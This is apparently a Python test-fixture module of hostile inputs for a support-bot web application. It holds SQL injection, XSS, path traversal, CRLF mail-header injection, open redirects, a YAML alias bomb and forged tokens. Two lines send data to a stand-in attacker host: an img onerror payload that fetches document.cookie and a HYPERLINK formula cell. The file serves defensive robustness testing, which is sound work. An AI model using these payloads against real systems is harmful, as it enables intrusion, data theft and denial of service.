"""Hostile input: what attackers and broken clients send. tests/test_hostile.py runs every
entry against every public endpoint it fits."""

from __future__ import annotations

# Raw request bodies for endpoints that take JSON. None of them is a usable request.
BAD_BODIES: dict[str, bytes] = {
    "empty": b"",
    "not json": b"hello there",
    "truncated json": b'{"text": "how do I',
    "invalid utf-8": b'{"text": "\xff\xfe\xfd caf\xc3"}',
    "utf-16 with bom": '{"text": "hi"}'.encode("utf-16"),
    "nested arrays 100k deep": b"[" * 100_000 + b"]" * 100_000,
    "nested objects 50k deep": b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    "json array": b'[{"text": "hi"}]',
    "json string": b'"hi"',
    "json null": b"null",
    "number overflow": b'{"text": 1e999999, "update_id": 1e999999}',
    "huge integer": b'{"update_id": ' + b"9" * 5000 + b"}",
    "wrong types": b'{"text": ["a"], "client_message_id": {"$ne": 1}, "name": 7}',
    "duplicate keys": b'{"text": "a", "text": {"x": 1}}',
    "nul bytes": b'{"text": "\x00\x00"}',
    "escaped nul": b'{"text": "hi\\u0000", "name": "a\\u0000", "email": "a@b.c\\u0000"}',
    "lone surrogate": b'{"text": "\\ud800"}',
    "2 MB body": b'{"text": "' + b"a" * 2_000_000 + b'"}',
}

# Well-formed messages whose text is hostile; each must be stored and shown as plain text.
HOSTILE_TEXTS: dict[str, str] = {
    "sql injection": "'; DROP TABLE messages; --",
    "sql union": "1' UNION SELECT password_hash FROM agents --",
    "script tag": "<script>alert(document.cookie)</script>",
    "img onerror": '<img src=x onerror="fetch(`//evil.test/`+document.cookie)">',
    "javascript url": "[click](javascript:alert(1))",
    "template injection": "{{ config.items() }} ${7*7} {% raw %}",
    "path traversal": "../../../../etc/passwd",
    "control characters": "hi\x07\x08\x1b[31mred\x1b[0m\u202etxet\u200b",
    "crlf header injection": "hello\r\nSet-Cookie: deskbot_session=stolen\r\n\r\n",
    "format strings": "%s%s%s%n %x {0.__class__}",
    "emoji and cjk": "重置密码 🔥🔥 \U0001f9d1\u200d\U0001f4bb",
    "very long word": "x" * 3900,
}

# Presented credentials that are not ours.
FORGED_BEARERS: list[str] = [
    "",
    "Bearer",
    "Bearer ",
    "Basic YWRtaW46YWRtaW4=",
    "Bearer null",
    "Bearer eyJhbGciOiJub25lIn0.eyJ2IjoiYWRtaW4ifQ.",
    "Bearer " + "A" * 10_000,
    "Bearer ../../etc/passwd",
    "Bearer ' OR '1'='1",
]

# Paths that try to leave the directories deskbot serves from.
TRAVERSAL_PATHS: list[str] = [
    "/static/../../../../etc/passwd",
    "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/static/..%2f..%2f..%2fbot%2fsettings.py",
    "/static/%252e%252e%252fetc%252fpasswd",
    "/static/app.css%00.js",
    "/static/....//....//etc/passwd",
    "/static/..\\..\\..\\bot\\settings.py",
    "/webchat/widget.js/../../../etc/passwd",
    "/api/customers/..%2f..%2fetc%2fpasswd/export",
    "/api/intents/..%2f..%2fetc%2fpasswd",
    "/admin/../../etc/passwd",
]


def raw_mail(
    number: int,
    sender: str = "Jane Roe <jane@customer.test>",
    subject: str = "Password help",
    body: str = "How do I reset my password?",
    message_id: str | None = None,
    headers: str = "",
) -> bytes:
    """A mail as the wire carries it, so headers the mail library would refuse to build
    (encoded NUL, CR/LF) can be sent."""
    message_id = message_id or f"<hostile.{number}@customer.test>"
    return (
        f"From: {sender}\r\nTo: support@acme.test\r\nSubject: {subject}\r\n"
        f"Message-ID: {message_id}\r\nDate: Tue, 1 Dec 2026 10:00:00 +0000\r\n{headers}"
        f"MIME-Version: 1.0\r\n\r\n{body}\r\n"
    ).encode("utf-8", "surrogateescape")


# Mail from people with hostile headers; each must be stored, and answered in one clean thread.
HOSTILE_MAILS: dict[str, bytes] = {
    "nul in the From name": raw_mail(1, "=?utf-8?q?Ja=00ne?= <nul.name@customer.test>"),
    "crlf in the From name": raw_mail(
        2, "=?utf-8?q?Ja=0D=0ABcc:_x@evil.test?= <crlf@customer.test>"
    ),
    "crlf in the Subject": raw_mail(
        3, "Kim <crlf.subject@customer.test>", "=?utf-8?q?help=0D=0ABcc:_x@evil.test?="
    ),
    "nul in the Subject": raw_mail(4, "Sam <nul.subject@customer.test>", "=?utf-8?q?a=00b?="),
    "nul in the Message-ID": raw_mail(
        5, "Lee <nul.id@customer.test>", message_id="<a\x00b.5@customer.test>"
    ),
    "bidi override in the name": raw_mail(6, "=?utf-8?q?=E2=80=AEtxet?= <bidi@customer.test>"),
    "unknown charset": raw_mail(
        7, "Ann <charset@customer.test>", headers="Content-Type: text/plain; charset=x-bogus\r\n"
    ),
    "unknown charset in the Subject": raw_mail(
        8, "Bo <hcharset@customer.test>", "=?x-bogus?q?hi?="
    ),
    "a 500-character name": raw_mail(9, f"{'N' * 500} <long.name@customer.test>"),
    "a 600-character Message-ID": raw_mail(
        10, "Max <long.id@customer.test>", message_id=f"<{'i' * 600}@customer.test>"
    ),
    "a 3000-character Subject": raw_mail(
        11, "Eve <long.subject@customer.test>", "\r\n ".join(["s" * 900] * 3)
    ),
    "a body over the message limit": raw_mail(
        12,
        "Ida <long.body@customer.test>",
        body="How do I reset my password?\r\n" + "\r\n".join(["x" * 70] * 90),
    ),
}

# Changes to a signed Slack DM event that make it unreadable; each is acknowledged (200, so
# Slack does not retry the same thing), logged, and stores nothing.
MALFORMED_SLACK_EVENTS: dict[str, dict[str, object]] = {
    "no user": {"user": None},
    "user is a number": {"user": 42},
    "no ts": {"ts": None},
    "ts is an object": {"ts": {"$gt": ""}},
    "no channel": {"channel": None},
    "text is a number": {"text": 12345},
    "text is a list": {"text": ["how", "much"]},
    "text is an object": {"text": {"a": 1}},
    "thread_ts is a list": {"thread_ts": [1]},
    "only control characters": {"text": "\u0000\u0007\u202e"},
}

# X-Slack-Request-Timestamp values that are no timestamp: 401 and counted as forged.
BAD_SLACK_TIMESTAMPS: list[str] = ["abc", "", "1e9", "-1", "1700000000.5", "9" * 5000, "١٧٠٠"]

# Changes to a private Telegram text update ("a.b" names a nested field) that carry the right
# secret but cannot be read: each is skipped and logged, 200 to the webhook, and in polling mode
# the offset moves past it.
MALFORMED_TELEGRAM_UPDATES: dict[str, dict[str, object]] = {
    "message is a string": {"": "str"},
    "chat is null": {"chat": None},
    "chat is a list": {"chat": [1]},
    "text is a number": {"text": 42},
    "text is an object": {"text": {"a": 1}},
    "date 1e20": {"date": 1e20},
    "date is a string": {"date": "yesterday"},
    "chat id is a string": {"chat.id": "1111111; DROP TABLE"},
    "message_id is a float": {"message_id": 1.5},
    "from is a string": {"from": "me"},
    "from id is null": {"from.id": None},
    "only control characters": {"text": "\u0000\u0007"},
}

# Ids no row can have, in a path, a query or a socket frame: a clear 4xx, never a 500 (1e20
# overflowed SQLite's 64-bit integer, 3000000000 PostgreSQL's int4).
OUT_OF_RANGE_IDS: list[str] = [
    "100000000000000000000",
    "3000000000",
    "2147483648",
    "9" * 5000,
    "0",
    "-1",
    "1e20",
    "0x10",
    "١٢",
    "1.0",
]
OUT_OF_RANGE_WATCH: list[object] = [1e20, 3_000_000_000, 10**30, -1, 0, True, "1e20", 1.5, None]
# Where a sign-in may be sent on afterwards (next=); none of these may leave the site.
REDIRECT_TARGETS: list[str] = [
    "//evil.example/x",
    "https://evil.example/",
    "http:evil.example",
    "/\\evil.example",
    "/\t/evil.example/p",  # next=/%09/evil.example/p, decoded
    "/\n/evil.example/p",
    "/\r\n/evil.example",
    "\t//evil.example",
    "/\x00/evil.example",
    "/\x7f/evil.example",
    "javascript:alert(1)",
    "evil.example",
    " //evil.example",
]

# Passwords an admin might try to give a user named Ann Smith, ann.smith@acme.test.
WEAK_PASSWORDS: list[str] = [
    "aaaaaaaaaa",
    "password123",
    "qwertyuiop",
    "1234567890",
    "ann.smith@acme.test",
    "annsmith2024",
    "AnnSmith-acme",
    "x" * 500,
]

# X-Forwarded-For values a client sends to pose as someone else or dodge a limit.
FORGED_FORWARDED_FOR: list[str] = [
    "203.0.113.7",
    "127.0.0.1",
    "10.0.0.1, 203.0.113.8",
    "not an address",
    "::1",
    "",
]

# Cookie-authenticated endpoints: another site's page gets no CORS on any of them.
COOKIE_ENDPOINTS: list[str] = [
    "/api/intents",
    "/api/agents",
    "/api/audit",
    "/api/customers",
    "/api/customers/1/export",
    "/api/me",
    "/login",
    "/logout",
    "/console",
    "/admin/faqs",
]

# 459 bytes that expand to ~7 GB of nested lists if aliases are followed ("billion laughs").
YAML_ALIAS_BOMB: str = (
    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
    "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
    "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
    "e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
    "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n"
    "g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n"
    "h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\n"
    "i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]\n"
    "intents: [{name: *i}]\n"
)

# Cells a spreadsheet would run as formulas if written raw.
FORMULA_CELLS: list[str] = [
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "+1-555-0100 call me",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "'=quoted already",
    "'plain quote",
]

# GET query strings with a NUL character: 400, never a database error.
NUL_QUERIES: list[str] = [
    "/api/intents?q=%00",
    "/api/intents?category=a%00b",
    "/api/conversations?state=%00",
    "/api/queue?team=%00",
    "/api/audit?entity=%00",
    "/api/customers?q=x%00",
    "/webchat/messages?after=%00",
]
